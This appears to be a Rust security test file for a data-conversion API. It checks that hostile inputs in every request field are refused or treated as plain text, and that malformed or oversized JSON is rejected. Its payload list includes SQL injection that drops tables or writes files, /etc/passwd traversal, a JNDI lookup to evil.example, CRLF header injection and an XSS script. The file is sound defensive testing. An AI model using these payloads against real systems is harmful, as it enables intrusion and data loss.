//! Requests of people who mean no good.

use serde_json::{Value, json};
use tundra_core::SourceType;

use crate::support::{Service, column};

/// Texts that do harm wherever one of them is pasted into something.
const TEXTS: [&str; 14] = [
    "'; DROP TABLE sources; --",
    "\"; DROP TABLE sources; --",
    "a') TO '/tmp/tundra-was-here'; --",
    "); COPY (SELECT 1) TO '/tmp/tundra-was-here'; --",
    "`; DROP TABLE sources; --",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "\u{0}",
    "a\r\nX-Injected: 1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "\u{202e}\u{feff}",
    "' OR 1=1 --",
];

#[tokio::test]
async fn texts_in_any_field_are_texts_and_no_more() {
    let service = Service::new().await;
    let source = service.uploaded("orders", "a,b\n1,2\n").await;
    let file = service.database("shop.db", "CREATE TABLE t (a INTEGER); INSERT INTO t VALUES (1)");
    service.keep_secrets(&json!({"shop": {"file_path": file}}));
    let database = service.add("acme", "shop", SourceType::Database, "sqlite", None).await;
    let (id, shop) = (source.id.to_string(), database.id.to_string());
    for text in TEXTS {
        let requests: Vec<(&str, Value)> = vec![
            ("/convert/file", json!({"source_id": text})),
            ("/convert/file", json!({"source_id": id, "format": text})),
            ("/convert/file", json!({"source_id": id, "compression": text})),
            ("/convert/file", json!({"source_id": id, "options": {"column_mapping": {text: "c"}}})),
            (
                "/convert/file",
                json!({"source_id": id, "options": {"type_overrides": {text: "DATE"}}}),
            ),
            ("/convert/file", json!({"source_id": id, "options": {"type_overrides": {"a": text}}})),
            ("/convert/file", json!({"source_id": id, "options": {"sheet_name": text}})),
            ("/convert/file", json!({"source_id": id, "options": {"encoding": text}})),
            ("/convert/file", json!({"source_id": id, "options": {"records": text}})),
            ("/convert/file", json!({"source_id": id, "options": {"on_bad_row": text}})),
            ("/convert/file", json!({"source_id": id, "options": {"header": text}})),
            ("/convert/file", json!({"source_id": id, "webhook": {"url": text}})),
            ("/convert/file", json!({"source_url": text, "output_url": text})),
            ("/infer/schema", json!({"source_id": id, "format": text})),
            ("/infer/schema", json!({"source_url": text})),
            (
                "/convert/database",
                json!({"source_id": shop, "credentials_id": text, "table_name": "t"}),
            ),
            (
                "/convert/database",
                json!({"source_id": shop, "credentials_id": "shop", "table_name": text}),
            ),
            (
                "/convert/database",
                json!({"source_id": shop, "credentials_id": "shop", "query": text}),
            ),
            (
                "/convert/database",
                json!({"source_id": shop, "credentials_id": "shop", "table_name": "t", "columns": [text]}),
            ),
            (
                "/convert/database",
                json!({"source_id": shop, "credentials_id": "shop", "table_name": "t", "partition_column": text}),
            ),
            (
                "/convert/database",
                json!({"source_id": shop, "credentials_id": "shop", "table_name": "t", "on_lossy": text}),
            ),
            (
                "/convert/database",
                json!({"source_id": shop, "credentials_id": "shop", "table_name": "t", "connector_type": text}),
            ),
            (
                "/convert/database",
                json!({"source_id": shop, "credentials_id": "shop", "table_name": "t", "compression": text}),
            ),
            ("/uploads", json!({"file_name": "a.csv", "format": text})),
            ("/uploads", json!({"file_name": "a.csv", "org_id": text})),
            ("/uploads", json!({"file_name": "a.csv", "source_id": text})),
            (
                "/convert/database",
                json!({"output_url": text, "connector_type": "sqlite", "credentials_id": "shop", "table_name": "t"}),
            ),
            ("/test/database-connection", json!({"connector_type": text, "credentials": {}})),
            (
                "/test/database-connection",
                json!({"connector_type": "sqlite", "credentials": {"file_path": text}}),
            ),
        ];
        for (path, request) in requests {
            let answer = service.post(path, &request).await;
            let status = answer.status.as_u16();
            assert!((400..500).contains(&status), "{path} {request}: {} {}", status, answer.body);
            assert!(answer.headers.get("x-injected").is_none());
        }
    }
    // A name in the output may be any text.
    for (number, text) in TEXTS.into_iter().filter(|text| !text.contains('\0')).enumerate() {
        let version = u32::try_from(service.versions(&source).await.len()).unwrap() + 1;
        let request = json!({"source_id": id, "options": {"column_mapping": {"b": text}}});
        service.post("/convert/file", &request).await.ok();
        assert_eq!(column(&service.data(&source, version), text), ["2"], "{number}");
    }
    // So may a null, a key and a reason.
    let is_seen = |text: &&str| text.bytes().all(|byte| byte == b' ' || byte.is_ascii_graphic());
    for text in TEXTS.into_iter().filter(is_seen) {
        let request = json!({"source_id": id, "options": {"null_values": [text], "quote": "\""}});
        let key = [("idempotency-key", text)];
        let answer = service.post_with("/convert/file", &key, &request).await;
        assert!(matches!(answer.status.as_u16(), 200 | 400), "{text}: {}", answer.body);
        let rollback = json!({"version": 1, "reason": text});
        let rolled = service.post(&format!("/sources/{id}/rollback"), &rollback).await;
        assert!(matches!(rolled.status.as_u16(), 200 | 400 | 409), "{text}: {}", rolled.body);
        let path: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for path in [
            format!("/sources/{path}"),
            format!("/versions/{path}/preview"),
            format!("/jobs/{path}"),
        ] {
            let answer = service.get(&path).await;
            assert!(matches!(answer.status.as_u16(), 400 | 404), "{path}: {}", answer.body);
        }
    }
    assert!(!std::path::Path::new("/tmp/tundra-was-here").exists());
    let sources = json!({"source_id": id});
    service.post("/infer/schema", &sources).await.ok();
}

#[tokio::test]
async fn json_that_is_deep_large_or_means_two_things_is_refused() {
    use axum::{body::Body, http::Request};

    let service = Service::new().await;
    let post = |text: String| {
        let request = Request::post("/convert/file").header("content-type", "application/json");
        service.send(request.body(Body::from(text)).unwrap())
    };
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    post(deep).await.failure(400, "invalid_json");
    let twice = r#"{"source_id": "a", "source_id": "b"}"#.to_owned();
    post(twice).await.failure(400, "invalid_json");
    let large = format!(r#"{{"source_id": "{}"}}"#, "x".repeat(2 << 20));
    let answer = post(large).await;
    assert_eq!(answer.status, 413, "{}", answer.body);
    let number = format!(r#"{{"source_id": "x", "options": {{"preamble": {}}}}}"#, "9".repeat(400));
    let answer = post(number).await;
    assert_eq!(answer.status, 400, "{}", answer.body);
}

#[tokio::test]
async fn options_have_an_end() {
    let service = Service::new().await;
    let source = service.uploaded("orders", "a,b\n1,2\n").await;
    let many: serde_json::Map<String, Value> =
        (0..10_001).map(|number| (format!("c{number}"), json!("d"))).collect();
    for options in [
        json!({"column_mapping": many}),
        json!({"skip_rows": vec![0; 100_001]}),
        json!({"delimiter": "x".repeat(17)}),
        json!({"null_values": vec![""; 1001]}),
        json!({"preamble": u64::MAX}),
        json!({"records": "a.".repeat(4000)}),
    ] {
        let request = json!({"source_id": source.id.to_string(), "options": options});
        service.post("/convert/file", &request).await.failure(400, "invalid_request");
    }
    assert!(service.versions(&source).await.is_empty());
}
